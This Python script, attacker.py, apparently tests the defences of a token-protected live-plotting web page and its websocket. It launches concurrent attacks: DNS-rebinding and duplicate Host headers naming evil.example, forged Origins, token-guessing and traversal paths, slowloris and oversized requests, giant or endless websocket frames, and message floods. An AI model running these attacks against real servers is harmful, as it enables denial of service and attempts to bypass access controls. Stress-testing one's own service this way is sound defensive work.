"""Attack a live page: `python attacker.py URL SECONDS CONNECTIONS [SOCKET]`; prints what came back, as JSON.

Every visitor repeats one attack until the time is over. Some know the token (a page gone mad, or somebody who was shown
the address), the others do not. `answers` counts the answers by attack; 101 is a websocket that was let in.
"""

import asyncio
import base64
import contextlib
import json
import os
import random
import struct
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

GIVE_UP = 3.0
SOCKET = sys.argv[4] if len(sys.argv) > 4 else "live"
"""Name of the page's websocket."""

ANSWERS: dict[str, Counter[str]] = defaultdict(Counter)


class Target:
    """The page that is attacked."""

    def __init__(self, url: str) -> None:
        parts = urlsplit(url)
        self.host, self.port = str(parts.hostname), int(parts.port or 80)
        self.name, self.path = f"{self.host}:{self.port}", parts.path
        self.origin = f"http://{self.name}"

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port, limit=1 << 16)

    def request(self, path: str, *, host: str | None = None, origin: str | None = None, socket: bool = False) -> bytes:
        lines = [f"GET {path} HTTP/1.1", f"Host: {host or self.name}"]
        lines += [f"Origin: {origin}"] if origin else []
        if socket:
            key = base64.b64encode(os.urandom(16)).decode()
            lines += ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"]
            lines += [f"Sec-WebSocket-Key: {key}"]
        return "\r\n".join([*lines, "", ""]).encode()


def frame(payload: bytes, opcode: int = 1, last: bool = True) -> bytes:
    """A masked frame of a client."""
    first = bytes([opcode | (0x80 if last else 0)])
    n = len(payload)
    length = bytes([0x80 | n]) if n < 126 else bytes([0xFE]) + struct.pack(">H", n)
    return first + length + b"\0\0\0\0" + payload


async def status_of(reader: asyncio.StreamReader) -> str:
    line = await asyncio.wait_for(reader.readline(), GIVE_UP)
    parts = line.decode("latin1").split()
    return parts[1] if len(parts) > 1 else "closed"


async def asked(target: Target, request: bytes, then: bytes = b"") -> str:
    """One request on a connection of its own; the status of the answer."""
    reader, writer = await target.connect()
    try:
        writer.write(request)
        status = await status_of(reader)
        if status == "101" and then:
            writer.write(then)
            await writer.drain()
        return status
    finally:
        writer.close()


PRESSED = b"".join(frame(json.dumps({key: "attacked"}).encode()) for key in ("start", "mark", "stop"))


async def foreign_host(target: Target) -> str:
    """DNS rebinding: a foreign name with the equal origin, token known or not."""
    evil = f"evil.example:{target.port}"
    path = random.choice((f"{target.path}{SOCKET}", f"/{SOCKET}", target.path))
    socket = path.endswith(SOCKET)
    return await asked(target, target.request(path, host=evil, origin=f"http://{evil}", socket=socket), PRESSED)


async def foreign_origin(target: Target) -> str:
    near = f"{target.origin}.evil.example"
    origin = random.choice(("http://evil.example", "null", f"https://{target.name}", near, None))
    return await asked(target, target.request(f"{target.path}{SOCKET}", origin=origin, socket=True), PRESSED)


async def wrong_token(target: Target) -> str:
    token = target.path.strip("/")
    wrong = (
        "/",
        f"/{SOCKET}",
        f"/{token[:-1]}/{SOCKET}",
        f"//{token}/{SOCKET}",
        f"/%2e%2e/{SOCKET}",
        f"/{token}x/figures.json",
    )
    path = random.choice(wrong)
    return await asked(target, target.request(path, origin=target.origin, socket=path.endswith(SOCKET)), PRESSED)


async def two_hosts(target: Target) -> str:
    smuggled = target.request(f"{target.path}{SOCKET}", origin=target.origin, socket=True)
    return await asked(target, smuggled.replace(b"Host:", b"Host: evil.example\r\nHost:", 1), PRESSED)


async def huge_request(target: Target) -> str:
    reader, writer = await target.connect()
    try:
        with contextlib.suppress(ConnectionError):
            writer.write(
                f"POST {target.path} HTTP/1.1\r\nHost: {target.name}\r\nContent-Length: 999999999\r\n".encode()
            )
            for _ in range(200):
                writer.write(b"X-Filler: " + b"a" * 10_000 + b"\r\n")
                await asyncio.wait_for(writer.drain(), GIVE_UP)
        return await status_of(reader)
    finally:
        writer.close()


async def slow_request(target: Target) -> str:
    _, writer = await target.connect()
    try:
        for letter in f"GET {target.path} HTTP/1.1\r\nHost: {target.name}\r\nX-Slow: {'a' * 1000}".encode():
            writer.write(bytes([letter]))
            await writer.drain()
            await asyncio.sleep(0.3)
        return "held"
    finally:
        writer.close()


async def let_in(target: Target) -> tuple[str, asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await target.connect()
    writer.write(target.request(f"{target.path}{SOCKET}", origin=target.origin, socket=True))
    try:
        status = await status_of(reader)
    except BaseException:
        writer.close()
        raise
    ANSWERS["pages"][status] += 1
    return status, reader, writer


async def ended_by(target: Target, sent: bytes) -> str:
    """Send to a page that was let in; whether the server ended it."""
    status, reader, writer = await let_in(target)
    try:
        if status != "101":
            return status
        writer.write(sent)
        deadline = time.monotonic() + GIVE_UP
        while time.monotonic() < deadline:
            if not await asyncio.wait_for(reader.read(1 << 16), GIVE_UP):
                return "ended"
        return "stayed"
    finally:
        writer.close()


async def huge_frame(target: Target) -> str:
    return await ended_by(target, bytes([0x81, 0xFF]) + struct.pack(">Q", 1 << 40) + b"\0\0\0\0" + b"a" * 100_000)


async def endless_message(target: Target) -> str:
    return await ended_by(target, frame(b"a" * 4000, last=False) + frame(b"a" * 4000, 0, last=False) * 50)


async def flood(target: Target) -> str:
    return await ended_by(target, frame(b'{"drawn":true}') * 500)


async def nonsense(target: Target) -> str:
    texts = (b"[" * 4000, b'{"show":{"response":1e9}}', b'{"show":[]}', b"\xff\xfe", b'{"mark":{}}', b"[]")
    return await ended_by(target, frame(random.choice(texts)))


async def slow_reader(target: Target) -> str:
    """Gets pages and never reads them; files too."""
    status, _, writer = await let_in(target)
    try:
        for _ in range(5):
            other, quiet = await target.connect()
            del other
            quiet.write(target.request(f"{target.path}bokeh.min.js"))
            await asyncio.sleep(0.1)
            quiet.close()
        return status
    finally:
        writer.close()


async def many_pages(target: Target) -> str:
    """Stays as long as it may, and says that it has drawn, as a page does."""
    status, reader, writer = await let_in(target)
    try:
        until = time.monotonic() + 2
        while status == "101" and time.monotonic() < until:
            await asyncio.wait_for(reader.read(1 << 20), GIVE_UP)
            writer.write(frame(b'{"drawn":true}'))
            await asyncio.sleep(0.3)
        return status
    finally:
        writer.close()


ATTACKS: tuple[Callable[[Target], Awaitable[str]], ...] = (
    *(foreign_host, foreign_origin, wrong_token, two_hosts, huge_request, slow_request),
    *(huge_frame, endless_message, flood, nonsense, slow_reader, many_pages),
)


async def visitor(target: Target, attack: Callable[[Target], Awaitable[str]], until: float) -> None:
    while time.monotonic() < until:
        try:
            status = await asyncio.wait_for(attack(target), max(until - time.monotonic(), 0.1))
        except (TimeoutError, OSError, asyncio.IncompleteReadError) as error:
            status = type(error).__name__
        ANSWERS[attack.__name__][status] += 1
        await asyncio.sleep(0.05)


async def main() -> None:
    target, seconds, n = Target(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
    until = time.monotonic() + seconds
    await asyncio.gather(*(visitor(target, ATTACKS[k % len(ATTACKS)], until) for k in range(n)))
    print(json.dumps(ANSWERS))


if __name__ == "__main__":
    asyncio.run(main())
